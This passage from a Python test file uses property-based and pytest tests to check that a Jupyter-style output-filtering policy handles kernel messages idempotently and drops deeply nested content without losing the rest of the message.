    done = outputs._policy().iopub(msg_type, (content, {}, ()), "cell", {"code": "1"})[0]
    if done is not None:
        assert len(str(done)) < 20 * len(str(content)) + 1000
        again = outputs._policy().iopub(msg_type, done, "another", {"code": "1"})[0]
        assert again == done or msg_type.startswith("comm_") or "nan" in str(done)


@given(st.sampled_from(REPLIES), contents)
@settings(deadline=None)
def test_no_reply_breaks_the_policy(msg_type: str, content: dict[str, Any]) -> None:
    policy = Outputs("safe")._policy()
    done = policy.reply(msg_type, (content, {}, ()))[0]
    assert done is not None
    assert policy.reply(msg_type, done)[0] == done or "nan" in str(done)
    assert policy.prompt(content).keys() == {"prompt", "password"}


def test_what_breaks_the_policy_costs_the_message_only(monkeypatch: pytest.MonkeyPatch) -> None:
    deep: Any = "x"
    for _ in range(5000):
        deep = [deep]
    outputs = Outputs("safe")
    content = {"data": {"application/json": deep, "text/plain": "x"}}
    assert publish(outputs, "display_data", content)["data"] == {"text/plain": "x"}
    assert publish(outputs, "debug_event", {"body": deep}) is None
    assert "could not be checked" in outputs.notice()
